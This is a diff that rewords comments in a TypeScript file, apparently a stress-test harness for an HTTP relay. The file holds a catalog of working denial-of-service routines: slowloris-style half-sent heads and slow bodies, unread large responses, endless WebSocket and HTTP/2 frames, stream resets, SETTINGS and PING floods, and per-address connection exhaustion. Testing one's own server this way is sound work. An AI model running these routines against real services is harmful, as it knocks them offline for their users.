@@ -22,7 +22,7 @@ const upgrade = (victim: Victim, path: string) =>
       "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
   );
 
-/** Chunks of the same size, as many as make a piece of 64 KiB or so. */
+/** Returns chunks of one size, about 64 KiB in total. */
 function chunks(size: number): Uint8Array {
   const chunk = `${size.toString(16)}\r\n${"x".repeat(size)}\r\n`;
   return ENCODER.encode(chunk.repeat(Math.ceil(64 * 1024 / chunk.length)));
@@ -30,14 +30,14 @@ function chunks(size: number): Uint8Array {
 
 const CHUNKED = "transfer-encoding: chunked\r\n";
 
-/** A request of a head that is sent again with every answer. */
+/** Sends a request head again after every response. */
 function repeat(socket: Socket, head: string, tally: Tally): void {
   countResponses(socket, tally);
   socket.on("data", () => void socket.write(head));
   socket.write(head);
 }
 
-/** A frame's head for a binary message of that length of which no end comes, masked with zeros. */
+/** Returns the frame head for an endless binary message of that length, with a zero mask. */
 function unfinishedFrame(length: number): Uint8Array {
   const head = new Uint8Array(14);
   head.set([0x02, 0xff]);
@@ -51,16 +51,16 @@ function repeated(frame: readonly number[]): Uint8Array {
   return bytes;
 }
 
-/** PING of the session in a WebSocket message of its own, both with no mask to speak of. */
+/** A session PING in its own WebSocket message, both with a zero mask. */
 const SESSION_PING = [0x82, 0x80 | 18, 0, 0, 0, 0, 0, 0, 0, 8, 7, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
 const SOCKET_PING = [0x89, 0x80, 0, 0, 0, 0];
 
-/** Of a connection of HTTP/2. */
+/** Streams per HTTP/2 connection. */
 const STREAMS = 200;
-/** More than anybody may send. */
+/** Above every flood limit. */
 const FLOOD_FRAMES = 3000;
 
-/** As many as one frame has room for, nearly. */
+/** Nearly the maximum for one frame. */
 const SETTINGS_ENTRIES = 2600;
 
 /** INITIAL_WINDOW_SIZE entries that open and close a window in turn. */
@@ -68,10 +68,10 @@ function windowEntries(count: number): Buffer {
   return Buffer.concat(Array.from({ length: count }, (_, index) => Buffer.of(0, 4, 0, 0, 0, index % 2)));
 }
 
-/** Below what an address may have. */
+/** Below the limit per address. */
 const SESSIONS_PER_ADDRESS = 20;
 
-/** The answer to a session's first request, as much of it as may be sent without credit, in messages without a mask. */
+/** The start of a response without credit, as much as allowed, in messages without a mask. */
 const OVERDRAWN = Buffer.concat(
   Array.from({ length: (INITIAL_WINDOW + OVERDRAFT) / MAX_PIECE | 0 }, (_, index) => {
     const block = index === 0 ? ENCODER.encode(`\r\ncontent-length: ${2 * OVERDRAFT}\r\n`) : new Uint8Array(0);
@@ -88,26 +88,26 @@ const OVERDRAWN = Buffer.concat(
   }),
 );
 
-/** Every attack by its name; what it does is one line each. */
+/** Every attack by name, each with one line about its load. */
 export const attacks: Readonly<Record<string, Attack>> = {
-  /** Heads that begin and never end. */
+  /** Heads that never end. */
   "half-heads": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       countResponses(socket, tally);
       socket.write(`GET / HTTP/1.1\r\nhost: ${victim.host}\r\nx-a: `);
     }),
 
-  /** Connections on which nothing is said. */
+  /** Silent connections. */
   "silent": (victim, count, tally) => dialMany(victim, count, tally, (socket) => countResponses(socket, tally)),
 
-  /** One answer each, then nothing. */
+  /** One response each, then silence. */
   "idle": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       countResponses(socket, tally);
       socket.write(get(victim, "/"));
     }),
 
-  /** Bodies of which a byte comes every five seconds. */
+  /** Bodies with one byte every five seconds. */
   "slow-bodies": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       countResponses(socket, tally);
@@ -115,21 +115,21 @@ export const attacks: Readonly<Record<string, Attack>> = {
       setInterval(() => void socket.write("x"), 5000);
     }),
 
-  /** Nobody reads an answer of a gigabyte. */
+  /** Unread 1 GB responses. */
   "no-readers": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       socket.pause();
       socket.write(get(victim, "/large"));
     }),
 
-  /** Nobody reads an answer that fits a window: all of it has come when its visitor holds it up. */
+  /** Unread responses that fit a window, so that the relay holds them completely. */
   "whole-unread": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       socket.pause();
       socket.write(get(victim, "/whole"));
     }),
 
-  /** Sessions that send all they may to a visitor of their own, who does not read. */
+  /** Sessions that send the maximum to their own visitor, which does not read. */
   "unread-sessions": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
       const address = 1 + Math.floor(index / SESSIONS_PER_ADDRESS);
@@ -141,7 +141,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     }
   },
 
-  /** An upload without end to a service that reads a megabyte a second. */
+  /** An endless upload to a service that reads 1 MB per second. */
   "slow-target": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       socket.write(post(victim, "/slow", CHUNKED));
@@ -157,27 +157,27 @@ export const attacks: Readonly<Record<string, Attack>> = {
     });
   },
 
-  /** Requests with as many fields as a head has room for, to the server itself, which refuses them. */
+  /** Requests with the maximum number of fields, to the server itself, which refuses them. */
   "short-fields": (victim, count, tally) =>
     dialAgain(victim, count, tally, (socket) => {
       countResponses(socket, tally);
       socket.write(get({ ...victim, host: "localhost" }, "/health", "a:\r\n".repeat(7500)));
     }),
 
-  /** Answers with 10,000 fields. */
+  /** Responses with 10,000 fields. */
   "answer-fields": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => repeat(socket, get(victim, "/fields/10000"), tally)),
 
-  /** Uploads in chunks of 512 bytes. */
+  /** Uploads in 512-byte chunks. */
   "chunks-512": (victim, count, tally) => sendChunks(victim, count, tally, 512),
 
-  /** Uploads in chunks of 64 bytes. */
+  /** Uploads in 64-byte chunks. */
   "chunks-64": (victim, count, tally) => sendChunks(victim, count, tally, 64),
 
-  /** Uploads in chunks of a byte. */
+  /** Uploads in one-byte chunks. */
   "chunks-1": (victim, count, tally) => sendChunks(victim, count, tally, 1),
 
-  /** Messages of 60 MB through an upgrade, without an end, to a service that reads them. */
+  /** Endless 60 MB messages through an upgrade, to a service that reads them. */
   "unfinished-messages": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       socket.write(upgrade(victim, "/ws/sink"));
@@ -187,17 +187,17 @@ export const attacks: Readonly<Record<string, Attack>> = {
       });
     }),
 
-  /** Messages of 60 MB on sessions, without an end: a frame that is too large, and small ones that never stop. */
+  /** Endless 60 MB messages on sessions: one too large frame, and small frames that never stop. */
   "unfinished-sessions": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
       const { socket } = await openSession(victim, tally);
       socket.write(unfinishedFrame(1e9));
-      // A DATA frame of a stream that never was is a fault, zeros too: so what follows is one frame's endless head.
+      // A DATA frame on an unknown stream is an error, so an endless head for one frame follows.
       sendWithoutEnd(socket, ZEROS, tally, 60e6);
     }
   },
 
-  /** PINGs of sessions, and of their WebSockets. */
+  /** Session PINGs, and WebSocket PINGs. */
   "session-pings": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
       const { socket } = await openSession(victim, tally);
@@ -205,7 +205,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     }
   },
 
-  /** The same by a client that does not read the answers. */
+  /** The same from a client that does not read. */
   "session-pings-unread": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
       const { socket } = await openSession(victim, tally);
@@ -214,14 +214,14 @@ export const attacks: Readonly<Record<string, Attack>> = {
     }
   },
 
-  /** A service that pings through an upgrade without end, to a visitor who reads. */
+  /** A service that pings without end through an upgrade, to a visitor that reads. */
   "service-pings": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       socket.resume();
       socket.write(upgrade(victim, "/ws/ping"));
     }),
 
-  /** Bodies without end to a tunnel that is not there. */
+  /** Endless bodies to a missing tunnel. */
   "refused-senders": (victim, count, tally) =>
     dialAgain(victim, count, tally, (socket) => {
       countResponses(socket, tally);
@@ -230,7 +230,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
       sendWithoutEnd(socket, chunks(16 * 1024), tally);
     }),
 
-  /** Bodies without end to a service that has answered. */
+  /** Endless bodies to a service that has responded. */
   "answered-senders": (victim, count, tally) =>
     dialAgain(victim, count, tally, (socket) => {
       countResponses(socket, tally);
@@ -238,21 +238,21 @@ export const attacks: Readonly<Record<string, Attack>> = {
       sendWithoutEnd(socket, chunks(16 * 1024), tally);
     }),
 
-  /** What is no HTTP, without end. */
+  /** Endless bytes that are not HTTP. */
   "noise-senders": (victim, count, tally) =>
     dialAgain(victim, count, tally, (socket) => {
       countResponses(socket, tally);
       sendWithoutEnd(socket, ZEROS, tally);
     }),
 
-  /** WebSockets on which nothing is said. */
+  /** Silent WebSockets. */
   "idle-upgrades": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
       countResponses(socket, tally);
       socket.write(upgrade(victim, "/ws"));
     }),
 
-  /** Requests one behind the other, whose answers nobody reads. */
+  /** Pipelined requests with unread responses. */
   "pipelines": (victim, count, tally) => {
     const requests = ENCODER.encode(get(victim, "/").repeat(500));
     return dialMany(victim, count, tally, (socket) => {
@@ -261,7 +261,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     });
   },
 
-  /** Streams of HTTP/2 whose answers of a gigabyte nobody takes, as many on each connection as it may have. */
+  /** HTTP/2 streams with unread 1 GB responses, the maximum per connection. */
   "http2-no-readers": async (victim, count, tally) => {
     for (let index = 0; index < count / STREAMS; index++) {
       const socket = await dialHttp2(victim, 1 + index, tally);
@@ -269,7 +269,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     }
   },
 
-  /** Streams that are reset as soon as they are opened: by the visitor, and for a fault of theirs. */
+  /** Streams that are reset after opening: by the visitor, and for their own errors. */
   "http2-resets": (victim, count, tally) => {
     const fault = (stream: number) => frame(Type.windowUpdate, 0, stream, new Uint8Array(4));
     const reset = (stream: number) => frame(Type.rstStream, 0, stream, Buffer.of(0, 0, 0, 8));
@@ -282,15 +282,15 @@ export const attacks: Readonly<Record<string, Attack>> = {
     );
   },
 
-  /** SETTINGS and PING, which must be answered. */
+  /** SETTINGS and PING, which require responses. */
   "http2-floods": (victim, count, tally) => {
     const frames = [frame(Type.settings, 0, 0), frame(Type.ping, 0, 0, new Uint8Array(8))];
     return floodAgain(victim, count, tally, (_, index) => frames[index % frames.length]);
   },
 
   /**
-   * SETTINGS frames whose entries change every stream's window, on connections whose streams are all blocked. Each entry
-   * once took a step for every stream.
+   * SETTINGS frames whose entries change every stream's window, on connections with blocked streams only. Each entry
+   * once took a step per stream.
    */
   "http2-settings": async (victim, count, tally) => {
     const settings = frame(Type.settings, 0, 0, windowEntries(SETTINGS_ENTRIES));
@@ -304,14 +304,14 @@ export const attacks: Readonly<Record<string, Attack>> = {
     await Promise.all(Array.from({ length: count }, (_, index) => again(index)));
   },
 
-  /** Visitors who come and go. */
+  /** Visitors that connect and disconnect. */
   "churn": (victim, count, tally) =>
     dialAgain(victim, count, tally, (socket) => {
       socket.write(get(victim, "/slow"));
       setTimeout(() => socket.resetAndDestroy(), 5);
     }),
 
-  /** Idle connections of one address, more than it may have. */
+  /** Idle connections from one address, above its limit. */
   "one-address": async (victim, count, tally) => {
     for (let index = 0; index < count; index++) {
       const socket = await dial(victim, PROBE_ADDRESS, tally);
@@ -320,7 +320,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
   },
 };
 
-/** So many at a time: whoever is ended comes again. */
+/** Keeps a number of connections: each closed one is opened again. */
 async function dialAgain(victim: Victim, count: number, tally: Tally, begin: (socket: Socket) => void): Promise<void> {
   const again = async (address: number): Promise<void> => {
     const socket = await dial(victim, address, tally);
@@ -331,7 +331,7 @@ async function dialAgain(victim: Victim, count: number, tally: Tally, begin: (so
   await Promise.all(Array.from({ length: count }, (_, index) => again(1 + index)));
 }
 
-/** HTTP/2 visitors who send the same with one stream after the other; whoever is ended comes again. */
+/** HTTP/2 visitors that send the same on one stream after another. Each closed one connects again. */
 async function floodAgain(
   victim: Victim,
   count: number,
